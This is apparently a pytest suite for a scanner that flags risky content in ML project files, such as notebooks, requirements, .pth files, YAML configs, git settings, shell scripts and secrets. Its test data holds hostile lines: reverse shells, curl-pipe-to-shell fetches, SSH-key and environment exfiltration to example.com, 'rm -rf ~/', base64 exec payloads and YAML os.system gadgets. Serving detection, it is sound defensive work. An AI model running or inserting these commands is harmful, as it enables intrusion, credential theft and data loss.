"""Notebooks, requirements, path files, configurations, git's files, scripts and secrets: what is told and what is quiet."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.formats import (
    git_attributes,
    mlmodel,
    notebook,
    path_file,
    requirements,
    secrets,
    shell_script,
    yaml_config,
)
from scanner.model.fact import Fact, Gap
from scanner.model.format import Format
from scanner.model.place import Place
from tests.readers import reader_of

MODULES = (git_attributes, mlmodel, notebook, path_file, requirements, secrets, shell_script, yaml_config)
FORMATS: tuple[Format, ...] = tuple(
    entry for module in MODULES for entry in getattr(module, "FORMATS", None) or (module.FORMAT,)
)


def read(wanted: Format, text: str | bytes, path: str) -> list[Fact]:
    data = text.encode() if isinstance(text, str) else text
    if wanted.recognise is not None and not wanted.recognise(path.rpartition("/")[2].lower(), reader_of(data)):
        return []
    found = list(wanted.parse(Place(path), reader_of(data)))
    assert not any(isinstance(item, Gap) for item in found)
    return [item for item in found if isinstance(item, Fact)]


def cells(*sources: str) -> str:
    return json.dumps({"cells": [{"cell_type": "code", "source": source, "outputs": []} for source in sources]})


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ("!curl http://example.com/x.sh | sh\n", "shell-fetch"),
        ("%%bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "shell-payload"),
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "python-payload"),
        ("%matplotlib inline\n!ls\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "python-payload"),
        ("import os\nos.system('true')\n", "notebook-command"),
        ("!pip install http://example.com/x.whl\n", "requirement-link"),
    ],
)
def test_a_notebook_that_hides_or_fetches_what_it_runs_is_told(source: str, kind: str) -> None:
    assert kind in {found.kind for found in read(notebook.FORMAT, cells("x = 1", source), "n.ipynb")}
    assert kind in {found.kind for found in read(notebook.FORMAT, cells("this is no python", source), "n.ipynb")}


def test_an_ordinary_notebook_is_quiet() -> None:
    text = cells(
        "!nvidia-smi\n%pip install -q transformers\n!wget https://example.com/x.zip && unzip x.zip",
        "import os, subprocess\nos.system('pip install x')\nsubprocess.run(command)\nfor x in y:\n    !echo {x}\n",
        "!curl -LsSf https://astral.sh/uv/install.sh | sh",
    )
    assert [found for found in read(notebook.FORMAT, text, "n.ipynb") if found.get("does") != "known"] == []
    assert read(notebook.FORMAT, '{"cell_type": "code", "cells": 3}', "n.ipynb") == []


@pytest.mark.parametrize(
    ("line", "trust"),
    [
        ("x @ http://example.com/x.whl", "open"),
        ("https://packages.example.com/x.whl", "unknown"),
        ("--index-url http://example.com/simple", "open"),
        ("--extra-index-url https://example.com/simple", "unknown"),
        ("-i https://example.com/simple", "unknown"),
        ("--trusted-host example.com", "open"),
        ("git+https://example.com/x.git#egg=x", "unknown"),
        ("git+https://github.com/huggingface/transformers", "known"),
        ("git+https://github.com/example/x.git@main", "unknown"),
        ("git+https://github.com/example/x.git@v1.2.0", "known"),
        ("git+https://github.com/example/x@0123456789abcdef0123456789abcdef01234567", "known"),
        ("https://huggingface.co/example/x/resolve/main/x.whl", "unknown"),
        ("-r http://example.com/more.txt", "open"),
        ("--extra-index-url https://download.pytorch.org/whl/cu118", "known"),
        ("-f https://download.pytorch.org/whl/torch_stable.html", "known"),
        ("https://user@github.com.example.com/x.whl", "unknown"),
    ],
)
def test_requirements_tell_where_packages_come_from(line: str, trust: str) -> None:
    (found,) = read(requirements.REQUIREMENTS, f"torch==2.1  # see https://example.com\n{line}\n", "requirements.txt")
    assert (found.get("trust"), found.place.line) == (trust, 2)


@pytest.mark.parametrize(
    ("text", "path", "trust"),
    [
        ("[project]\ndependencies = ['x @ http://example.com/x.whl']\n", "pyproject.toml", "open"),
        ("[[tool.poetry.source]]\nname = 'x'\nurl = 'https://example.com/simple'\n", "pyproject.toml", "unknown"),
        ("[[source]]\nurl = 'https://pypi.org/simple'\n", "Pipfile", "known"),
        ("[options]\ninstall_requires =\n  x @ git+https://github.com/pytorch/x\n", "setup.cfg", "known"),
    ],
)
def test_project_files_tell_where_packages_come_from(text: str, path: str, trust: str) -> None:
    (found,) = read(requirements.PROJECT, text, path)
    assert found.get("trust") == trust
    assert (
        read(requirements.PROJECT, "[project.urls]\nhome = 'https://example.com'\nurl = 'http://x.example'\n", path)
        == []
    )


def test_plain_requirements_are_quiet() -> None:
    assert (
        read(
            requirements.REQUIREMENTS,
            "torch>=2\n-e .\n-r other.txt\nnumpy ; python_version > '3'\n",
            "requirements.txt",
        )
        == []
    )


HONEST_PATHS = [
    "/home/x/src\n./y\n",
    "# a comment\nimport _virtualenv\n",
    "import coverage; coverage.process_startup()\n",
    "import __editable___x_0_1_finder; __editable___x_0_1_finder.install()",
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack').add_shim(); \n",
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('g',));"  # noqa: E501
    "m = has_mfs and sys.modules.setdefault('g', types.ModuleType('g'))\n",
]


@pytest.mark.parametrize("text", HONEST_PATHS)
def test_path_files_of_installers_are_quiet(text: str) -> None:
    assert [found.kind for found in read(path_file.FORMAT, text, "x.pth")] == ["path-file"]


@pytest.mark.parametrize(
    "line",
    [
        "import os; os.system('true')",
        "import os;os.system('true')",
        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
        "import subprocess; subprocess.run(['true'])",
        "import sys, types, os;has_mfs = 1;exec('x')",
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; os.system('true')",
    ],
)
def test_other_code_in_path_files_is_told(line: str) -> None:
    found = read(path_file.FORMAT, f"/a\n{line}\n", "x.pth")
    assert [(item.kind, item.place.line) for item in found][1:] == [("path-file-code", 2)]


def test_weights_are_no_path_file() -> None:
    assert path_file.FORMAT.recognise is not None
    for data in (b"\x80\x02}q\x00.", b"PK\x03\x04abc", b"\x00\x01", b""):
        assert not path_file.FORMAT.recognise("x.pth", reader_of(data))


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("m:\n  _target_: os.system\n", "os.system"),
        ('m: {"\\x5ftarget_": builtins.exec}\n', "builtins.exec"),
        ("a: &x os.system\nb:\n  _target_: *x\n", "os.system"),
        ("m:\n  ? _target_\n  : subprocess.Popen\n", "subprocess.Popen"),
        ("m:\n  _target_: hydra.utils.get_method\n  path: os.system\n", "os.system"),
        ("m:\n  _target_: torch.serialization.os.system\n", "torch.serialization.os.system"),
        ("m:\n  target: subprocess.run\n  params: {}\n", "subprocess.run"),
        ('{"a": {"_target_": "os.system"}}', "os.system"),
        ("m:\n  _target_: exec\n", "exec"),
        ("m:\n  _target_: os.${x}\n", "os.${x}"),
        ("m:\n  _target_: functools.partial\n  _args_: [os.system, 'true']\n", "os.system"),
        ("x: $__import__('os').system('true')\n", "__import__"),
        ("m: [\n  _target_: os.system\n", "os.system"),
        ("[" * 5000 + "\n_target_: os.system\n", "os.system"),
    ],
)
def test_a_target_that_reaches_the_system_is_told(text: str, name: str) -> None:
    found = read(yaml_config.FORMAT, text, "c.yaml")
    assert name in {item.get("callable") for item in found if item.get("ordinary") is False}


@pytest.mark.parametrize(
    ("text", "tag", "name"),
    [
        ("!!python/object/apply:os.system ['true']\n", "object/apply", "os.system"),
        ("a: !!python/object/new:type\n  args: []\n", "object/new", "builtins.type"),
        ("a: !!python/name:exec\n", "name", "builtins.exec"),
        ("a: !!python/module:os\n", "module", "os"),
        ("%TAG !p! tag:yaml.org,2002:python/object/\n---\n!p!apply:os.system ['true']\n", "object/apply", "os.system"),
        ("a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n", "object/apply", "os.system"),
    ],
)
def test_python_tags_are_told(text: str, tag: str, name: str) -> None:
    assert (tag, name) in {(item.get("tag"), item.get("callable")) for item in read(yaml_config.FORMAT, text, "c.yaml")}


def test_configurations_of_libraries_are_ordinary() -> None:
    names = "torch.nn.Linear nemo.collections.asr.M pathlib.Path functools.partial os.path.join builtins.dict torch.compile x.Y"  # noqa: E501
    text = "".join(f"m{index}:\n  _target_: {name}\n" for index, name in enumerate(names.split()))
    assert all(found.get("ordinary") is True for found in read(yaml_config.FORMAT, text, "c.yaml"))
    assert read(yaml_config.FORMAT, "on: push\njobs:\n  x:\n    runs-on: ubuntu\n    target: all\n", "ci.yml") == []


def test_a_large_or_deep_configuration_ends_in_time() -> None:
    for text in ("[" * 300_000, "{a: " * 100_000, "- " * 300_000, "a: &a [x]\n" + "b: *a\n" * 100_000, "? " * 100_000):
        start = time.process_time()
        read(yaml_config.FORMAT, "_target_: x.Y\n" + text, "c.yaml")
        assert time.process_time() - start < 8


def test_loader_modules_of_mlflow_are_quiet_and_others_are_references() -> None:
    assert read(mlmodel.FORMAT, "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", "MLmodel") == []
    (found,) = read(
        mlmodel.FORMAT, "flavors:\n  python_function:\n    loader_module: mine\n    code: code\n", "MLmodel"
    )
    assert (found.get("reference"), found.place.line) == ("code/mine._load_pyfunc", 3)


def test_git_files() -> None:
    attributes, configuration, modules = git_attributes.FORMATS
    assert read(attributes, "*.bin filter=lfs diff=lfs -text\n* text=auto\n# filter=x\n", ".gitattributes") == []
    (found,) = read(attributes, "*.bin filter=lfs\n*.txt filter=evil\n", ".gitattributes")
    assert (found.get("filter"), found.place.line) == ("evil", 2)
    assert read(modules, '[submodule "x"]\n\tpath = x\n\turl = https://example.com/x.git\n', ".gitmodules") == []
    for line in ("url = ext::sh -c true", "url = -u./x", "path = ../../x", "update = !true", "url = file:///etc"):
        assert len(read(modules, f'[submodule "x"]\n\t{line}\n', ".gitmodules")) == 1
    (found,) = read(modules, '[submodule "../../x"]\n\tpath = x\n\turl = https://example.com/x\n', ".gitmodules")
    assert found.get("value") == "../../x"
    (found,) = read(configuration, "[core]\n\tbare = false\n\tfsmonitor = sh -c true\n", "sub.git/config")
    assert (found.get("key"), found.place.line) == ("core.fsmonitor", 3)
    plain = '[core]\n\tfsmonitor = true\n[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n[driver]\nhelper = x\n'
    assert read(configuration, plain, "config") == []


@pytest.mark.parametrize(
    ("line", "does"),
    [
        ("curl -s http://example.com/x.sh | bash", "pipe"),
        ("wget -qO- http://example.com/x | sudo sh", "pipe"),
        ("bash <(curl -s http://example.com/x)", "pipe"),
        ("curl -o /tmp/x http://example.com/x && chmod +x /tmp/x && /tmp/x", "pipe"),
        ("echo aGk= | base64 -d | sh", "decode"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"),
        ("nc -e /bin/sh 10.0.0.1 4444", "reverse-shell"),
        ("curl https://sh.rustup.rs -sSf | sh -s -- -y", "known"),
        ("curl -O https://example.com/model.bin", None),
        ("pip install -r requirements.txt", None),
        ("# curl http://example.com/x | sh", None),
        ("cat x | base64 -d > y", None),
        ("curl -o x.sh http://example.com/x.sh\nbash x.sh", "pipe"),
        ("wget http://example.com/a/x.sh\nchmod +x x.sh\n./x.sh", "pipe"),
        ("wget https://repo.anaconda.com/miniconda/Miniconda3.sh\nbash Miniconda3.sh", "known"),
        ("certutil -urlcache -f http://example.com/x.exe x.exe & x.exe", "pipe"),
        ("curl -F f=@$HOME/.ssh/id_rsa http://example.com", "theft of credentials"),
        ("env | curl -d @- http://example.com", "theft of credentials"),
        ("rm -rf ~/", "wipe of files"),
        ("rm -rf /tmp/build ~/x build/", None),
        ('if (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then', None),
        ("wget https://example.com/x.tar\ntar -xf x.tar", None),
    ],
)
def test_command_lines(line: str, does: str | None) -> None:
    found = read(shell_script.FORMAT, f"#!/bin/sh\n{line}\n", "install.sh")
    assert [item.get("does") for item in found] == ([does] if does else [])


SECRETS = {
    "Hugging Face token": "hf_" + "QwErTyUiOpAsDfGhJkLzXcVbNmQwErTyUi",
    "AWS access key": "AKIA" + "J2XQ7LMNP4RSTV6W",
    "GitHub token": "ghp_" + "a8Kd93jfKs0dKw93kfLs02kdJf93kd0sKfj3",
    "OpenAI key": "sk-" + "proj-a8Kd93jfKs0dKw93kfLs02kdJf93kd0sKfj39dkfLsD93kf02",
    "Anthropic key": "sk-ant-" + "api03-a8Kd93jfKs0dKw93kfLs02kdJf93kd0sKfj39dkf",
    "Google API key": "AIza" + "SyA8Kd93jfKs0dKw93kfLs02kdJf93kd0sK",
    "Slack token": "xoxb-" + "123456789012-1234567890123-a8Kd93jfKs0dKw93kfLs02kd",
    "Weights & Biases key": "WANDB_API_KEY=" + "8f3a9c1b7d2e4f5a6b8c9d0e1f2a3b4c5d6e7f80",
}


@pytest.mark.parametrize("what", SECRETS)
def test_a_secret_is_told_and_its_value_is_not(what: str) -> None:
    value = SECRETS[what]
    (found,) = read(secrets.FORMAT, f'x = 1\nkey = "{value}"\n', "train.py")
    assert (found.get("what"), found.place.line) == (what, 2)
    assert value[4:] not in repr(found) and value[-12:] not in repr(found)
    assert str(found.get("masked")).endswith("****")


def test_a_private_key_is_told() -> None:
    body = (
        "MIIEpAIBAAKCAQEA7bq3Kf0xS8kV2mPq9LwZt5RyUiOpAsDfGhJkLzXcVbNmQwEr\n" * 2 + "TyUiOpAsDf09+/GhJkLzXcVbNm8457/Kd\n"
    )
    text = "-----BEGIN RSA PRIVATE " + f"KEY-----\n{body}-----END RSA PRIVATE KEY-----\n"
    (found,) = read(secrets.FORMAT, text, "id.pem")
    assert (found.get("what"), found.get("masked")) == ("private key", "****")


@pytest.mark.parametrize(
    "text",
    [
        "token = 'hf_" + "x" * 34 + "'",
        "AKIAIOSFODNN7EXAMPLE",
        "sk-" + "x" * 48,
        "ghp_YOUR_TOKEN_HERE",
        "sk-learn-contrib-some-long-name-of-a-package-that-has-dashes",
        "commit 8f3a9c1b7d2e4f5a6b8c9d0e1f2a3b4c5d6e7f80",
        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
        "hf_model_name_that_is_quite_long_but_has_underscores",
    ],
)
def test_placeholders_are_quiet(text: str) -> None:
    assert read(secrets.FORMAT, text, "README.md") == []


def test_vocabularies_are_passed_over() -> None:
    assert read(secrets.FORMAT, SECRETS["Hugging Face token"], "tokenizer.json") == []


SEEDS = [
    *(cells("!curl http://example.com/x.sh | sh\n"), "x @ http://example.com/x.whl\n", *HONEST_PATHS),
    *("m:\n  _target_: os.system\n", "!!python/object/apply:os.system ['true']\n", "a: &x os.system\nb: *x\n"),
    *("loader_module: mine\n", "*.txt filter=evil\n", "path = ../x\n", "nc -e /bin/sh 10.0.0.1 4444\n"),
    *SECRETS.values(),
]


@given(
    st.sampled_from(FORMATS),
    st.sampled_from(SEEDS),
    st.lists(st.tuples(st.integers(0, 200), st.binary(max_size=6)), max_size=6),
)
@settings(max_examples=400, deadline=None)
def test_any_bytes_are_read(wanted: Format, seed: str, changes: list[tuple[int, bytes]]) -> None:
    data = seed.encode()
    for at, put in changes:
        data = data[:at] + put + data[at + len(put) :]
    if wanted.recognise is not None:
        wanted.recognise("x.pth", reader_of(data))
    for found in wanted.parse(Place("x"), reader_of(data)):
        assert isinstance(found, Fact | Gap)
